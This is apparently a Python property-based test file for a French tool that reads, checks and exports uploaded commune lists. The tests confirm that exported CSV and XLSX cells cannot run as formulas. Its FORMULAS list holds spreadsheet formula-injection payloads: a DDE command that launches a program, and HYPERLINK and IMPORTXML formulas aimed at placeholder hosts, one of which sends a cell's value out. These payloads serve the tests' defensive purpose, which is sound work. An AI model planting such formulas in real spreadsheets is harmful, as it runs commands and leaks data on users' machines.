"""Property tests of uploaded files (sentiers.rural.batch): random bytes, encodings, separators, huge cells and formula
cells. Never a traceback (a SentiersError with a French message is the only failure), never a lost or
reordered row, always a status per row, and no exported cell a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from sentiers.errors import SentiersError
from sentiers.exports import to_csv_bytes, to_xlsx_bytes
from sentiers.rural.batch import (
    MESSAGE_COLUMN,
    STATUS_COLUMN,
    STATUS_LABELS,
    ColumnChoice,
    check_frame,
    guess_columns,
    read_upload,
)

SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid","clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x.invalid/?", A1), "//a")',
]
# cells people put in a column of communes, and the worst of what else reaches it
CELL = st.one_of(
    st.sampled_from(
        ["Die", "26113", "26150", "Saint-Martin", "Saint-Martin (65)", "99999", "", "  ", "Paris"]
    ),
    st.sampled_from(FORMULAS),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40),
)
HEADER = (
    st.text(alphabet="abcdefghijklmnopqrstuvwxyzéè _-", min_size=1, max_size=12).map(str.strip).filter(bool)
)


# --- reading ------------------------------------------------------------------------------------------


@SETTINGS
@given(data=st.binary(max_size=4096), filename=st.sampled_from(["f.csv", "f.xlsx", "f.txt", "", "f.xls"]))
def test_random_bytes_are_read_or_refused_in_french(data, filename):
    try:
        frame = read_upload(data, filename)
    except SentiersError as exc:
        assert str(exc).strip()
        return
    assert isinstance(frame, pd.DataFrame)
    assert frame.shape[1] >= 1


def _csv_text(headers: list[str], rows: list[list[str]], sep: str) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue()


@st.composite
def tables(draw, cell=CELL, max_rows=25):
    width = draw(st.integers(min_value=1, max_value=4))
    headers = draw(st.lists(HEADER, min_size=width, max_size=width, unique=True))
    rows = draw(st.lists(st.lists(cell, min_size=width, max_size=width), min_size=1, max_size=max_rows))
    return headers, rows


@SETTINGS
@given(
    table=tables(),
    sep=st.sampled_from([";", ",", "\t"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
)
def test_csv_in_any_separator_and_encoding_keeps_every_row(table, sep, encoding):
    headers, rows = table
    text = _csv_text(headers, rows, sep)
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        assume(False)  # cp1252 cannot hold this text: not a file anyone has
    # a cell holding line breaks or only separators makes the layout ambiguous for any reader: skip those
    assume(all("\n" not in c and "\r" not in c for row in rows for c in row))
    try:
        frame = read_upload(data, "liste.csv")
    except SentiersError as exc:
        # refusing is allowed only with a message, and only for files whose layout is really ambiguous
        assert str(exc).strip()
        assume(False)
        return
    assert list(frame.columns) == headers, (list(frame.columns), text[:300])
    # every row comes back, in order, cell for cell, blank ones included
    got = [list(r) for r in frame.itertuples(index=False)]
    assert got == rows, text[:300]


def test_a_quoted_cell_with_commas_does_not_hide_the_semicolon_separator():
    """Found by the property above: csv.Sniffer picks ',' when the first data row quotes a cell with commas."""
    text = 'commune;lien\r\n"=HYPERLINK(""http://x.invalid"",""clic"")";Die\r\nCrest;26\r\n'
    frame = read_upload(text.encode("utf-8"), "liens.csv")
    assert list(frame.columns) == ["commune", "lien"]
    assert frame.values.tolist() == [['=HYPERLINK("http://x.invalid","clic")', "Die"], ["Crest", "26"]]


@pytest.mark.parametrize(
    "text",
    ["nom;dép\r\nDie;26\r\nCrest;26\r\n", "Libellé\r\nÉvry\r\n", "Commune;Département\r\nDie;26\r\n"],
)
def test_a_short_windows_1252_file_is_read_as_windows_1252(text):
    """Found by the property above: a few accented letters in Windows-1252 were read as Arabic or Chinese."""
    frame = read_upload(text.encode("cp1252"), "liste.csv")
    lines = text.split("\r\n")
    assert list(frame.columns) == lines[0].split(";")
    assert frame.values.tolist() == [line.split(";") for line in lines[1:] if line]


def test_a_huge_cell_is_kept_or_refused_with_a_message():
    huge = "Die" + "x" * 2_000_000
    data = _csv_text(["commune"], [["Die"], [huge], ["26113"]], ";").encode("utf-8")
    frame = read_upload(data, "huge.csv")
    assert len(frame) == 3
    assert frame.iloc[1, 0] == huge


def test_a_file_over_the_limit_is_refused_in_french():
    data = ("commune\n" + "Die\n" * 6_000_000).encode()
    with pytest.raises(SentiersError, match="volumineux|lignes"):
        read_upload(data, "gros.csv")


# --- checking: one status per row, same order, original cells untouched ----------------------------------


@pytest.fixture(scope="module")
def base(embedded_base):
    return embedded_base


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(table=tables(max_rows=40))
def test_every_row_comes_back_in_order_with_a_status(base, table):
    headers, rows = table
    frame = pd.DataFrame(rows, columns=headers, dtype=str)
    for column in headers:
        out, summary = check_frame(base, frame, ColumnChoice(kind="name", column=column))
        assert len(out) == len(frame)
        assert list(out.index) == list(frame.index)
        pd.testing.assert_frame_equal(out[headers], frame)  # nothing moved, nothing rewritten
        assert set(out[STATUS_COLUMN]) <= set(STATUS_LABELS.values())
        not_ok = out[out[STATUS_COLUMN] != STATUS_LABELS["ok"]]
        assert (not_ok[MESSAGE_COLUMN].str.strip() != "").all()
        assert summary.rows == len(frame)
        counted = summary.ok + summary.ambiguous + summary.not_found + summary.invalid + summary.empty
        assert counted == len(frame)


def test_guess_columns_on_a_file_without_a_commune_column_says_so(base):
    frame = pd.DataFrame({"prix": ["12", "13"], "couleur": ["bleu", "vert"]})
    try:
        choice = guess_columns(frame)
    except SentiersError as exc:
        assert str(exc).strip()
        return
    # a guess is allowed, but then checking it must still give one status per row
    out, _ = check_frame(base, frame, choice)
    assert len(out) == 2


# --- writing: no live formula ----------------------------------------------------------------------------


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


LIVE = ("=", "+", "-", "@", "\t", "\r")


@SETTINGS
@given(table=tables(cell=st.one_of(st.sampled_from(FORMULAS), CELL)))
def test_exported_csv_has_no_live_formula_and_loses_nothing(table):
    headers, rows = table
    frame = pd.DataFrame(rows, columns=headers, dtype=str)
    cells = _csv_cells(to_csv_bytes(frame))
    assert len(cells) == len(rows) + 1
    for line in cells:
        for cell in line:
            assert not cell.startswith(LIVE), cell
    for got, want in zip(cells[1:], rows, strict=True):
        # the only change allowed is the leading apostrophe that makes a formula inert
        assert [
            g.removeprefix("'") if w.startswith(LIVE) else g for g, w in zip(got, want, strict=True)
        ] == want


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(table=tables(cell=st.one_of(st.sampled_from(FORMULAS), CELL), max_rows=10))
def test_exported_xlsx_has_no_formula_cell_and_loses_nothing(table):
    from openpyxl import load_workbook

    headers, rows = table
    frame = pd.DataFrame(rows, columns=headers, dtype=str)
    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame)))
    sheet = book.worksheets[0]
    values = list(sheet.iter_rows())
    assert len(values) == len(rows) + 1
    for line in values:
        for cell in line:
            assert cell.data_type != "f", cell.value
    for got, want in zip(values[1:], rows, strict=True):
        for g, w in zip(got, want, strict=True):
            expected = "".join(ch for ch in w if ch in "\t\n\r" or ord(ch) >= 32)
            # XML turns CR and CRLF into LF when the file is read back: not a change the export makes
            expected = expected.replace("\r\n", "\n").replace("\r", "\n")
            assert (g.value or "") == expected


def test_the_calc_payload_stays_text_end_to_end(base):
    """The issue's example, through the whole chain: upload -> check -> CSV and XLSX exports."""
    from openpyxl import load_workbook

    payload = "=cmd|' /C calc'!A0"
    data = _csv_text(["commune", "note"], [["Die", payload], [payload, "x"]], ";").encode("utf-8")
    frame = read_upload(data, "piege.csv")
    out, summary = check_frame(base, frame, ColumnChoice(kind="name", column="commune"))
    assert summary.rows == 2
    assert out[STATUS_COLUMN].iloc[1] == STATUS_LABELS["invalid"]
    csv_cells = _csv_cells(to_csv_bytes(out))
    assert csv_cells[1][1] == "'" + payload and csv_cells[2][0] == "'" + payload
    sheet = load_workbook(io.BytesIO(to_xlsx_bytes(out))).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "calc" in str(c.value)]
    assert cells and all(c.data_type == "s" for c in cells)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(table=tables(cell=st.one_of(st.sampled_from(FORMULAS), CELL), max_rows=12))
def test_a_downloaded_xlsx_uploaded_again_gives_the_same_rows(table):
    """The round trip a user makes: download the checked file as XLSX, upload it again."""
    headers, rows = table
    assume(all(not h.startswith(("=", "+", "-", "@")) for h in headers))
    frame = pd.DataFrame(rows, columns=headers, dtype=str)
    again = read_upload(to_xlsx_bytes(frame), "verification.xlsx")
    assert list(again.columns) == headers

    def clean(cell: str) -> str:
        kept = "".join(ch for ch in cell if ch in "\t\n\r" or ord(ch) >= 32)
        return kept.replace("\r\n", "\n").replace("\r", "\n").strip()

    want = [[clean(c) for c in row] for row in rows]
    while want and not any(want[-1]):  # blank rows are rows, in a workbook too; only those at the end go
        want = want[:-1]
    got = [[str(v).strip() for v in row] for row in again.itertuples(index=False)]
    assert got == want
